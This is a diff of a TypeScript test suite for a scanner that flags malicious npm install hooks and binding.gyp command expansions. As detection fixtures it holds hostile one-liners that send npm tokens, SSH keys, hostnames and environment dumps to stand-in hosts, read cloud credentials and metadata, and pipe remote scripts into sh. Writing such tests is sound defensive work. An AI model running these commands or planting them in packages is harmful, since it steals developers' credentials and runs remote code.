@@ -1,6 +1,6 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyseInstallHooks, npmHookFiles, npmInstallHooks, npmInstallScriptFacts, referencedScriptFiles, type InstallHook } from './index.ts';
+import { analyseInstallHooks, commandEntries, gypCommands, npmHookStarts, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
 
 const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });
 
@@ -34,6 +34,10 @@ test('behaviour rules: malicious install code is found with evidence', () => {
     ['curl -X POST http://45.9.148.108:8080/c -d "$(hostname)"', 'install.remote-fetch.raw-ip-url', 'high'],
     ['cat ~/.npmrc | curl -d @- https://x.example', 'install.credential-access.npm-token', 'critical'],
     ['echo $NPM_TOKEN', 'install.credential-access.npm-token', 'critical'],
+    ["fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')", 'install.credential-access.npm-token', 'critical'],
+    ['const m = rc.match(/_authToken=(.+)/)', 'install.credential-access.npm-token', 'critical'],
+    ["if (line.includes('_authToken')) send(line)", 'install.credential-access.npm-token', 'critical'],
+    ['https.request(u).end(JSON.stringify({ ...process.env }))', 'install.environment-dump.env-dump', 'high'],
     ['cat ~/.aws/credentials', 'install.credential-access.cloud-credentials', 'critical'],
     ['curl http://169.254.169.254/latest/meta-data/iam/', 'install.credential-access.cloud-metadata', 'critical'],
     ['tar cz ~/.ssh/id_rsa | nc x.example 9', 'install.credential-access.ssh-keys', 'critical'],
@@ -102,6 +106,15 @@ test('benign install scripts raise nothing above low', () => {
   const esbuildLike = "const { execFileSync } = require('child_process');\nconst path = require('path');\nexecFileSync(process.execPath, [path.join(__dirname, 'bin', 'esbuild'), '--version']);";
   const f = analyseInstallHooks([hook(esbuildLike, 'install.js', 'script-file')]).findings;
   assert.deepEqual(f.map((x) => `${x.rule}:${x.severity}`), ['install.shell-exec.child-process:low']);
+  // A child's environment built from the parent's (esbuild's install.js), and comments that name
+  // npm's credentials in passing (node-sass's, nx's), are not reading or collecting anything.
+  const passing = [
+    "execFileSync(bin, ['--version'], { env: { ...process.env, ESBUILD_BINARY_PATH: undefined } });",
+    ' * .npmrc variable sass_binary_name or',
+    ' * `npm config` CLI or the `.npmrc` config file.',
+    ' * names that are not valid shell identifiers, i.e. every `//...:_authToken`',
+  ].join('\n');
+  assert.deepEqual(analyseInstallHooks([hook(passing, 'install.js', 'script-file')]).findings.filter((x) => x.severity !== 'low'), []);
 });
 
 test('.pth startup hooks are reported only for .pth files', () => {
@@ -112,30 +125,51 @@ test('.pth startup hooks are reported only for .pth files', () => {
   assert.ok(!analyseInstallHooks([hook('import os', 'setup.py', 'pypi-setup-py')]).findings.some((f) => f.rule === 'install.startup-hook.pth-import'));
 });
 
-test('referenced files are found, normalised and confined to the package', () => {
-  const files = referencedScriptFiles([
-    hook('node install.js && node ./scripts/post.mjs'),
-    hook('sh ./setup.sh; bash ../../etc/evil.sh; python3 /abs/x.py; ./bin/run'),
-    hook('node-gyp rebuild', 'binding.gyp', 'npm-native-build'),
-  ]);
-  assert.deepEqual(files, ['bin/run', 'install.js', 'scripts/post.mjs', 'setup.sh']);
+test('command entries: what a command line runs from the package, as each runner reads its arguments', () => {
+  const specs = (command: string) => commandEntries(command).map((e) => `${e.node ? 'node' : 'file'}:${e.spec}`);
+  assert.deepEqual(specs('node --max-old-space-size=100 --title x scripts/a.js --flag && node . && nodejs ../up'), ['node:./scripts/a.js', 'node:.', 'node:../up']);
+  assert.deepEqual(specs('node -r ./pre.js --import=./imp.mjs -e "require(\'./x\'); import(\'y\')" arg.js'), ['node:./pre.js', 'node:./imp.mjs', 'node:./x', 'node:y']);
+  assert.deepEqual(specs('curl -s https://e.example | node -; node'), []);
+  assert.deepEqual(specs('deno run -A x.ts; bun run y.js; tsx z.ts'), ['node:./x.ts', 'node:./y.js', 'node:./z.ts']);
+  assert.deepEqual(specs('sh -c "bash -e ./a.sh && python3 b.py"; ./bin/run --x; /usr/bin/true; perl -w c.pl'), ['file:./a.sh', 'file:b.py', 'file:./bin/run', 'file:c.pl']);
+  assert.deepEqual(gypCommands('{"a": "<!(node gen.js)", "b": "<!@(node -p \\"require(\'x\').dirs\\")", "c": "<(not_a_command)"}'), ['node gen.js', 'node -p \\"require(\'x\').dirs\\"']);
 });
 
-test('facts: the tarball file an install hook runs is analysed too', () => {
-  const facts = npmInstallScriptFacts({
-    manifest: { name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
-    files: new Map([['setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]),
-  });
+/** An archive in memory, read as the artifact's content is (each file up to the bounds). */
+function archive(files: Record<string, string>): ReadArchiveFiles {
+  return async (paths, bounds) => {
+    const out = new Map<string, ArchiveFile>();
+    let total = 0;
+    for (const p of paths) {
+      const body = files[p];
+      if (body === undefined) continue;
+      const bytes = Buffer.from(body).subarray(0, Math.max(0, Math.min(bounds.maxBytesEach, bounds.maxTotalBytes - total)));
+      total += bytes.length;
+      out.set(p, { bytes, size: Buffer.byteLength(body) });
+    }
+    return out;
+  };
+}
+
+async function factsOf(input: NpmInstallScriptInput, files: Record<string, string>, name = 'x') {
+  return npmInstallScriptFacts(input, await readHookFiles(npmHookStarts(input), archive(files), name, 100_000));
+}
+
+const PAYLOAD = "require('child_process').exec('curl https://e.example/p | sh')";
+
+test('facts: the tarball file an install hook runs is analysed too', async () => {
+  const facts = await factsOf({ manifest: { name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } } }, { 'setup.js': PAYLOAD });
   assert.equal(facts.present, true);
   assert.deepEqual(facts.hooks, [{ kind: 'npm-lifecycle', name: 'postinstall', command: 'node setup.js' }]);
   assert.equal(facts.max_severity, 'critical');
   assert.ok(facts.categories.includes('remote-exec'));
   assert.equal(facts.findings[0]?.source, 'setup.js');
+  assert.deepEqual([facts.complete, facts.unread, facts.truncated], [true, [], []]);
   const none = npmInstallScriptFacts({ manifest: { name: 'y' } });
-  assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length }, { present: false, max: 'none', findings: 0 });
+  assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length, complete: none.complete }, { present: false, max: 'none', findings: 0, complete: true });
 });
 
-test('facts: the hooks of bundled packages run in their own folder, and the files they run are analysed too', () => {
+test('facts: the hooks of bundled packages run in their own folder, and the files they run are analysed too', async () => {
   const input = {
     manifest: { name: 'outer', version: '1.0.0', scripts: { postinstall: 'node own.js' } },
     bundled: new Map([
@@ -143,24 +177,76 @@ test('facts: the hooks of bundled packages run in their own folder, and the file
       ['node_modules/native', { install: 'node-gyp rebuild' }],
     ]),
   };
-  assert.deepEqual(npmHookFiles(input), ['node_modules/inner/setup.js', 'node_modules/native/binding.gyp', 'own.js']);
-  const facts = npmInstallScriptFacts({ ...input, files: new Map([['own.js', '// nothing'], ['node_modules/inner/setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]) });
+  assert.deepEqual(
+    npmHookStarts(input).map((s) => [s.folder, s.entries.map((e) => e.spec)]),
+    [['', ['./own.js']], ['node_modules/inner', ['./setup.js']], ['node_modules/native', ['binding.gyp']]],
+  );
+  const facts = await factsOf(input, { 'own.js': '// nothing', 'node_modules/inner/setup.js': PAYLOAD, 'setup.js': '// the wrong folder' }, 'outer');
   assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall', 'postinstall in node_modules/inner', 'install in node_modules/native']);
   assert.equal(facts.native_build, true);
   assert.equal(facts.max_severity, 'critical');
   assert.ok(facts.findings.some((f) => f.source === 'node_modules/inner/setup.js' && f.category === 'remote-exec'), JSON.stringify(facts.findings));
 });
 
-test('facts: a node-gyp build reads binding.gyp, whose command expansions run shell commands: it is analysed', () => {
+test('facts: a node-gyp build reads binding.gyp, whose command expansions run shell commands and the scripts they name', async () => {
   const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://e.example/p | sh)"] }] }';
   const implicit = { manifest: { name: 'x', version: '1.0.0' }, hasBindingGyp: true };
-  assert.deepEqual(npmHookFiles(implicit), ['binding.gyp']);
-  const facts = npmInstallScriptFacts({ ...implicit, files: new Map([['binding.gyp', gyp]]) });
+  const facts = await factsOf(implicit, { 'binding.gyp': gyp });
   assert.equal(facts.max_severity, 'critical');
   assert.deepEqual(facts.findings.map((f) => [f.rule, f.source]).find(([r]) => r === 'install.remote-exec.pipe-to-shell'), ['install.remote-exec.pipe-to-shell', 'binding.gyp']);
+  // An expansion that runs a script of the package: the script is read and analysed.
+  const viaScript = await factsOf(implicit, { 'binding.gyp': '{"variables": {"x": "<!(node tools/gen.js)"}, "targets": [{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}', 'tools/gen.js': PAYLOAD });
+  assert.ok(viaScript.findings.some((f) => f.source === 'tools/gen.js' && f.rule === 'install.remote-exec.pipe-to-shell'), JSON.stringify(viaScript.findings));
   // An explicit node-gyp script reads it too; a plain one does not.
-  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }), ['binding.gyp']);
-  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node install.js' } } }), ['install.js']);
+  assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['binding.gyp']);
+  assert.deepEqual(npmHookStarts({ manifest: { scripts: { install: 'node install.js' } } }).flatMap((s) => s.entries.map((e) => e.spec)), ['./install.js']);
+});
+
+test('facts: what the hooks run is followed as Node loads it, through `npm run` and through require', async () => {
+  const cases: [string, Record<string, unknown>, Record<string, string>, string][] = [
+    // core-js's own form: the file is named inside `node -e`.
+    ['node -e', { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' }, { 'postinstall.js': PAYLOAD }, 'postinstall.js'],
+    ['no extension', { postinstall: 'node scripts/postinstall' }, { 'scripts/postinstall.js': PAYLOAD }, 'scripts/postinstall.js'],
+    ['a folder', { install: 'node lib' }, { 'lib/index.js': PAYLOAD }, 'lib/index.js'],
+    ['the package main', { postinstall: 'node .' }, { 'package.json': '{"main": "dist/main.cjs"}', 'dist/main.cjs': PAYLOAD }, 'dist/main.cjs'],
+    ['a preload', { postinstall: 'cross-env X=1 node -r ./hook.js other.js' }, { 'hook.js': PAYLOAD, 'other.js': '' }, 'hook.js'],
+    ['npm run', { postinstall: 'npm run setup', setup: 'node setup.js' }, { 'setup.js': PAYLOAD }, 'setup.js'],
+    ['pre of a script run by name', { postinstall: 'npm run build --if-present', prebuild: 'sh ./pre.sh', build: 'tsc' }, { 'pre.sh': 'curl https://e.example/p | sh' }, 'pre.sh'],
+    ['require chain', { postinstall: 'node install.js' }, { 'install.js': "const f = require('./lib/fetch')", 'lib/fetch.js': "import x from '../vendor/x.mjs'", 'vendor/x.mjs': PAYLOAD }, 'vendor/x.mjs'],
+    ['a bundled package', { postinstall: 'node -e "require(\'inner\')"' }, { 'node_modules/inner/package.json': '{"exports": {".": {"require": "./main.js"}}}', 'node_modules/inner/main.js': PAYLOAD }, 'node_modules/inner/main.js'],
+    ['itself by name', { postinstall: 'node -e "require(\'x/lib/setup\')"' }, { 'lib/setup.js': PAYLOAD }, 'lib/setup.js'],
+    ['a shell script', { postinstall: 'sh -c "bash ./setup.sh"' }, { 'setup.sh': 'node ./stage2.js', 'stage2.js': PAYLOAD }, 'stage2.js'],
+  ];
+  for (const [what, scripts, files, source] of cases) {
+    const facts = await factsOf({ manifest: { name: 'x', version: '1.0.0', scripts } }, files);
+    assert.ok(facts.findings.some((f) => f.source === source && f.rule === 'install.remote-exec.pipe-to-shell'), `${what}: ${JSON.stringify(facts.findings)}`);
+    assert.equal(facts.complete, true, what);
+  }
+  // Outside the package, Node's own modules and dependencies installed beside it are not read.
+  const asked: string[] = [];
+  const read = archive({ 'install.js': "require('../../etc/x'); require('fs'); require('node:path'); require('left-pad'); require('/abs')" });
+  await readHookFiles(npmHookStarts({ manifest: { scripts: { postinstall: 'node install.js' } } }), async (paths, b) => (asked.push(...paths), read(paths, b)), 'x', 1000);
+  assert.ok(!asked.some((p) => p.includes('etc') || p === 'fs' || p.includes('path') || p.startsWith('/')), JSON.stringify(asked));
+  assert.ok(asked.includes('node_modules/left-pad/index.js'), 'a dependency is looked for among the bundled packages only');
+});
+
+test('facts: code the bounds leave unread or read in part is reported, and the analysis is not complete', async () => {
+  // The payload past 4 MiB of padding: read in part, reported truncated.
+  const padded = `${'// padding\n'.repeat(400_000)}${PAYLOAD}`;
+  const cut = await factsOf({ manifest: { scripts: { postinstall: 'node bundle.js' } } }, { 'bundle.js': padded });
+  assert.deepEqual([cut.truncated, cut.complete, cut.max_severity], [['bundle.js'], false, 'none']);
+  // Past 512 KiB it is read and found (the old cut).
+  const big = await factsOf({ manifest: { scripts: { postinstall: 'node bundle.js' } } }, { 'bundle.js': `${'// padding\n'.repeat(60_000)}${PAYLOAD}` });
+  assert.deepEqual([big.truncated, big.complete, big.max_severity], [[], true, 'critical']);
+  // A chain longer than the passes allowed: the rest is unread.
+  const chain: Record<string, string> = {};
+  for (let i = 0; i < 20; i++) chain[`f${i}.js`] = `require('./f${i + 1}')`;
+  const scripts = { postinstall: 'node f0.js' };
+  const deep = await factsOf({ manifest: { scripts } }, chain);
+  assert.deepEqual([deep.complete, deep.unread], [false, ['./f16']]);
+  // A big artifact gets fewer passes: each walks all of it.
+  const huge = await readHookFiles(npmHookStarts({ manifest: { scripts } }), archive(chain), 'x', 100 * 1024 * 1024);
+  assert.deepEqual([huge.files.size, huge.unread], [2, ['./f2']]);
 });
 
 test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
